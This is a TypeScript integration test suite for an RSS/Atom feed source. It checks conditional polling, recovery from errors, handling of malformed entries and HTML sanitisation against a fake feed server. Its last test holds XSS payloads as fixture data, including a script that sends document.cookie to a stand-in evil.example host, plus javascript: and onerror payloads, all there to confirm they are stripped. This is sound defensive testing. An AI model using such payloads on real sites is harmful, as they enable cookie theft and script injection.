/**
 * The RSS/Atom source end to end: the fake feed server on 127.0.0.1, the real SourceRunner, the
 * real subject matcher and a real database. Time between polls is a manual clock: the test wakes
 * the runner for each poll, so nothing sleeps for the source's real interval.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Clock } from '../../server/clock';
import { loadCursor } from '../../server/db/repositories/sources.repository';
import { insertSubject } from '../../server/db/repositories/subjects.repository';
import { createLogger } from '../../server/logger';
import type { PostAnalyzer } from '../../server/pipeline/analyzer';
import { Engines } from '../../server/pipeline/engines';
import { EventHub } from '../../server/pipeline/events';
import { SourceRunner } from '../../server/pipeline/runner';
import { RssSource } from '../../server/sources/rss/rss.source';
import { atomFeed, rssFeed, startFakeFeedServer, type FakeFeedServer, type FeedItemSpec } from '../fakes/feed.fake';
import { describeEachDatabase, type TestDatabase } from '../support/databases';

/** Time stands still until the test moves it; every sleep (poll interval or backoff) waits for `wake`. */
class ManualClock implements Clock {
  private sleepers: Array<() => void> = [];
  constructor(private at: number) {}
  now(): Date {
    return new Date(this.at);
  }
  sleep(_ms: number, signal?: AbortSignal): Promise<void> {
    return new Promise((resolve, reject) => {
      if (signal?.aborted) return reject(signal.reason);
      const wake = () => {
        signal?.removeEventListener('abort', onAbort);
        resolve();
      };
      const onAbort = () => {
        this.sleepers = this.sleepers.filter((s) => s !== wake);
        reject(signal?.reason);
      };
      signal?.addEventListener('abort', onAbort, { once: true });
      this.sleepers.push(wake);
    });
  }
  get sleeping(): number {
    return this.sleepers.length;
  }
  /** Ends every sleep in progress after `ms` of clock time. */
  wake(ms: number): void {
    this.at += ms;
    for (const wake of this.sleepers.splice(0)) wake();
  }
  advance(ms: number): void {
    this.at += ms;
  }
}

async function until(condition: () => boolean | Promise<boolean>, what: string): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}

const INTERVAL_MS = 900_000;
const items = (...specs: Array<[id: string, title: string]>): FeedItemSpec[] =>
  specs.map(([id, title], i) => ({ id, title, link: `https://news.acme.example/${id}`, description: `<p>Story ${id}</p>`, published: new Date(Date.UTC(2026, 2, 1, 8, i)) }));

describeEachDatabase('the RSS source through the runner', (db) => {
  let fake: FakeFeedServer;
  let engines: Engines;
  let subjects: { acme: number; globex: number };
  afterAll(async () => {
    await fake.close();
  });
  beforeAll(async () => {
    fake = await startFakeFeedServer();
    const acme = await insertSubject(db().db, { kind: 'company', name: 'Acme', query: 'acme' });
    const globex = await insertSubject(db().db, { kind: 'supplier', name: 'Globex', query: 'globex' });
    subjects = { acme: acme.id, globex: globex.id };
    engines = new Engines(db().db, createLogger('silent'));
    await engines.reload();
  });

  /** One runner over one feed path, with the number of posts the pipeline analysed. */
  function harness(id: string, path: string, clock = new ManualClock(Date.parse('2026-03-02T12:00:00Z'))) {
    const analysed = { n: 0 };
    const analyzer: PostAnalyzer = {
      ...engines.analyzer,
      matchSubjects: (post) => {
        analysed.n++;
        return engines.analyzer.matchSubjects(post);
      },
    };
    const runner = new SourceRunner({ db: db().db, analyzer: () => analyzer, clock, logger: createLogger('silent'), events: new EventHub() });
    const source = new RssSource(id, { feedUrl: fake.url(path), intervalSeconds: INTERVAL_MS / 1000 }, { timeoutMs: 300, maxBytes: 1024 * 1024 });
    runner.add(source);
    const requests = () => fake.count(path).requests;
    return {
      runner,
      clock,
      analysed,
      health: () => runner.healthOf(id)!,
      /** Starts the runner and waits for its first poll to end (stored, sleeping). */
      async start() {
        runner.start();
        await until(() => requests() >= 1 && clock.sleeping === 1, 'the first poll is done');
      },
      /** Ends the current sleep `ms` of clock time later and waits until the next poll has been answered and handled. */
      async poll(ms = INTERVAL_MS) {
        const before = requests();
        clock.wake(ms);
        await until(() => requests() > before && clock.sleeping === 1, 'the next poll is done');
      },
    };
  }

  test('entries are matched to subjects and stored once across repeated polls and a restart; later polls are conditional', async () => {
    const lastModified = new Date('2026-03-02T07:00:00Z');
    const first = items(['a1', 'Acme recalls the X1 blender'], ['g1', 'Globex shipment three weeks late'], ['w1', 'Weather: rain all week']);
    fake.set('/main.xml', { kind: 'feed', body: rssFeed({ title: 'Acme News', link: 'https://news.acme.example/', language: 'en', items: first }), lastModified });

    const one = harness('rss:main', '/main.xml');
    await one.start();
    expect(await storedPosts(db(), 'rss:main')).toEqual([
      { native_id: 'a1', text: 'Acme recalls the X1 blender\n\nStory a1', url: 'https://news.acme.example/a1', author_handle: 'news.acme.example', lang: 'en', subjects: [subjects.acme] },
      { native_id: 'g1', text: 'Globex shipment three weeks late\n\nStory g1', url: 'https://news.acme.example/g1', author_handle: 'news.acme.example', lang: 'en', subjects: [subjects.globex] },
    ]);

    await one.poll();
    const [firstRequest, secondRequest] = fake.requests.filter((r) => r.path === '/main.xml');
    expect(firstRequest).toMatchObject({ ifNoneMatch: null, ifModifiedSince: null, status: 200 });
    expect(secondRequest).toMatchObject({ ifNoneMatch: expect.stringMatching(/^".+"$/), ifModifiedSince: lastModified.toUTCString(), status: 304 });
    expect(fake.count('/main.xml')).toEqual({ requests: 2, notModified: 1, ok: 1 });

    // The feed gains an entry and re-serves the old ones: only the new one is analysed and stored.
    const second = [...first, ...items(['a2', 'Acme ships the X2 early'])];
    fake.set('/main.xml', { kind: 'feed', body: rssFeed({ title: 'Acme News', link: 'https://news.acme.example/', language: 'en', items: second }), lastModified: new Date('2026-03-02T09:00:00Z') });
    await one.poll();
    // The weather story matches no subject: a feed is a broad source, so it is not kept.
    expect((await storedPosts(db(), 'rss:main')).map((p) => p.native_id)).toEqual(['a1', 'a2', 'g1']);
    expect(one.analysed.n).toBe(4);
    expect(one.health()).toMatchObject({ status: 'connected', lastError: null, counters: {} });
    await one.runner.stop();
    const etagBeforeRestart = fake.requests.at(-1)!.ifNoneMatch;

    // A new process: the saved cursor carries the validators and the seen entries.
    const third = [...second, ...items(['g2', 'Globex opens a plant'])];
    fake.set('/main.xml', { kind: 'feed', body: rssFeed({ title: 'Acme News', link: 'https://news.acme.example/', language: 'en', items: third }), lastModified: new Date('2026-03-02T10:00:00Z') });
    const two = harness('rss:main', '/main.xml');
    await two.start();
    const afterRestart = fake.requests.filter((r) => r.path === '/main.xml').at(-1)!;
    expect(afterRestart.ifNoneMatch).toMatch(/^".+"$/);
    expect(afterRestart.ifNoneMatch).not.toBe(etagBeforeRestart);
    expect(afterRestart.ifModifiedSince).toBe('Mon, 02 Mar 2026 09:00:00 GMT');
    expect(two.analysed.n).toBe(1);
    await two.poll();
    await two.poll();
    await two.runner.stop();

    const stored = await storedPosts(db(), 'rss:main');
    expect(stored.map((p) => p.native_id)).toEqual(['a1', 'a2', 'g1', 'g2']);
    expect(stored.find((p) => p.native_id === 'g2')?.subjects).toEqual([subjects.globex]);
    expect(fake.count('/main.xml')).toEqual({ requests: 6, notModified: 3, ok: 3 });
    // The cursor the runner stored with the last batch: validators and every entry of the feed seen.
    const cursor = (await loadCursor(db().db, 'rss:main')) as { etag: string; lastModified: string; seen: string[] };
    expect(cursor.etag).toBe(fake.requests.filter((r) => r.path === '/main.xml').at(-1)!.ifNoneMatch);
    expect(cursor.lastModified).toBe('Mon, 02 Mar 2026 10:00:00 GMT');
    expect(cursor.seen).toHaveLength(5);
  });

  test('an Atom feed with only Last-Modified is polled conditionally too', async () => {
    const lastModified = new Date('2026-03-01T18:30:00Z');
    fake.set('/status.atom', {
      kind: 'feed',
      etag: false,
      lastModified,
      contentType: 'application/atom+xml',
      body: atomFeed({ title: 'Globex status', link: 'https://status.globex.example/', language: 'de', items: [{ id: 'tag:globex,1', title: 'Globex API degraded', description: 'Investigating', author: 'Ops', published: new Date('2026-03-01T18:00:00Z') }] }),
    });
    const h = harness('rss:status', '/status.atom');
    await h.start();
    await h.poll();
    await h.runner.stop();
    const requests = fake.requests.filter((r) => r.path === '/status.atom');
    expect(requests.map((r) => [r.ifNoneMatch, r.ifModifiedSince, r.status])).toEqual([
      [null, null, 200],
      [null, lastModified.toUTCString(), 304],
    ]);
    expect(await storedPosts(db(), 'rss:status')).toEqual([
      { native_id: 'tag:globex,1', text: 'Globex API degraded\n\nInvestigating', url: null, author_handle: 'status.globex.example', lang: 'de', subjects: [subjects.globex] },
    ]);
  });

  test('404, 500, an HTML page, a 50 MB body and a server that never answers each keep the runner alive with a clear error on health, and the source recovers', async () => {
    const good = (extra: FeedItemSpec[] = []) => ({ kind: 'feed' as const, body: rssFeed({ title: 'Flaky', items: [...items(['f1', 'Acme flaky one']), ...extra] }) });
    fake.set('/flaky.xml', good());
    const h = harness('rss:flaky', '/flaky.xml');
    await h.start();
    expect(await storedPosts(db(), 'rss:flaky')).toHaveLength(1);

    const modes = [
      [{ kind: 'status', status: 404 }, /^the feed server answered 404 Not Found$/, 'degraded'],
      [{ kind: 'status', status: 500 }, /^the feed server answered 500 Internal Server Error$/, 'degraded'],
      [{ kind: 'html' }, /returned an HTML page, not an RSS or Atom feed/, 'failing'],
      [{ kind: 'huge', bytes: 50 * 1024 * 1024 }, /larger than the 1 MB limit/, 'failing'],
      [{ kind: 'hang' }, /^the feed server did not answer within 300 ms$/, 'failing'],
      [{ kind: 'feed', body: '{"not": "a feed"}', contentType: 'application/json' }, /not an RSS or Atom feed/, 'failing'],
    ] as const;
    for (const [behaviour, message, status] of modes) {
      fake.set('/flaky.xml', behaviour);
      await h.poll(60_000);
      // The runner records the error after the failed pull, then sleeps its backoff on our clock.
      expect(h.health().lastError?.message).toMatch(message);
      expect(h.health().status).toBe(status);
    }
    expect(fake.bytesSent('/flaky.xml')).toBeLessThan(10 * 1024 * 1024);
    expect(h.health().errorsLastHour).toBe(modes.length);

    fake.set('/flaky.xml', good(items(['f2', 'Acme flaky two'])));
    await h.poll();
    expect((await storedPosts(db(), 'rss:flaky')).map((p) => p.native_id)).toEqual(['f1', 'f2']);
    expect(h.health().status).toBe('degraded');
    h.clock.advance(61 * 60_000);
    expect(h.health().status).toBe('connected');
    await h.runner.stop();
    expect(fake.count('/flaky.xml').requests).toBe(modes.length + 2);
  });

  test('malformed entries are skipped and counted once while the rest of the feed is stored', async () => {
    const broken = (extra: string) =>
      rssFeed({ title: 'Broken', items: [] }).replace(
        '</channel>',
        `<item><guid>m1</guid><title>Acme fine one</title></item><item><guid>m2</guid><title>broken <b>unclosed</title></item><item></item><item><guid>m3</guid><title>Acme fine three</title></item>${extra}</channel>`,
      );
    fake.set('/broken.xml', { kind: 'feed', body: broken('') });
    const h = harness('rss:broken', '/broken.xml');
    await h.start();
    expect((await storedPosts(db(), 'rss:broken')).map((p) => p.native_id)).toEqual(['m1', 'm3']);
    expect(h.health().counters).toEqual({ skipped_entries: 2 });
    expect(h.health().status).toBe('connected');

    fake.set('/broken.xml', { kind: 'feed', body: broken('<item><guid>m4</guid><title>Acme fine four</title></item>') });
    await h.poll();
    await h.runner.stop();
    expect((await storedPosts(db(), 'rss:broken')).map((p) => p.native_id)).toEqual(['m1', 'm3', 'm4']);
    expect(h.health().counters).toEqual({ skipped_entries: 2 });
  });

  test('hostile HTML in entries is stored as inert text', async () => {
    fake.set('/hostile.xml', {
      kind: 'feed',
      body: rssFeed({
        title: 'Hostile <script>alert(1)</script>',
        items: [
          { id: 'h1', title: 'Acme <img src=x onerror="alert(1)">review', description: '<p>Great <b>blender</b></p><script>fetch("//evil.example/"+document.cookie)</script><iframe src="javascript:alert(2)"></iframe>', link: 'javascript:alert(3)' },
          { id: 'h2', title: 'Acme &lt;b onmouseover=alert(4)&gt;twice&lt;/b&gt; escaped', description: '&lt;a href="javascript:alert(5)"&gt;click&lt;/a&gt; &amp;amp; more', link: 'data:text/html,<script>alert(6)</script>' },
        ],
      }),
    });
    const h = harness('rss:hostile', '/hostile.xml');
    await h.start();
    await h.runner.stop();
    const stored = await storedPosts(db(), 'rss:hostile');
    expect(stored.map((p) => [p.native_id, p.text, p.url])).toEqual([
      ['h1', 'Acme review\n\nGreat blender', null],
      ['h2', 'Acme twice escaped\n\nclick & more', null],
    ]);
    for (const post of stored) expect(post.text).not.toMatch(/<[a-z!/?]|javascript:|onerror|onload/i);
    const names = await db().db.selectFrom('posts').select('author_name').where('source', '=', 'rss:hostile').execute();
    expect(names.map((n) => n.author_name)).toEqual(['Hostile', 'Hostile']);
  });
});

async function storedPosts(db: TestDatabase, source: string) {
  const rows = await db.db
    .selectFrom('posts')
    .leftJoin('post_subjects', 'post_subjects.post_id', 'posts.id')
    .select(['posts.native_id', 'posts.text', 'posts.url', 'posts.author_handle', 'posts.lang', 'post_subjects.subject_id'])
    .where('posts.source', '=', source)
    .orderBy('posts.native_id')
    .orderBy('post_subjects.subject_id')
    .execute();
  const byId = new Map<string, { native_id: string; text: string; url: string | null; author_handle: string | null; lang: string | null; subjects: number[] }>();
  for (const r of rows) {
    const post = byId.get(r.native_id) ?? { native_id: r.native_id, text: r.text, url: r.url, author_handle: r.author_handle, lang: r.lang, subjects: [] };
    if (r.subject_id !== null) post.subjects.push(r.subject_id);
    byId.set(r.native_id, post);
  }
  return [...byId.values()];
}
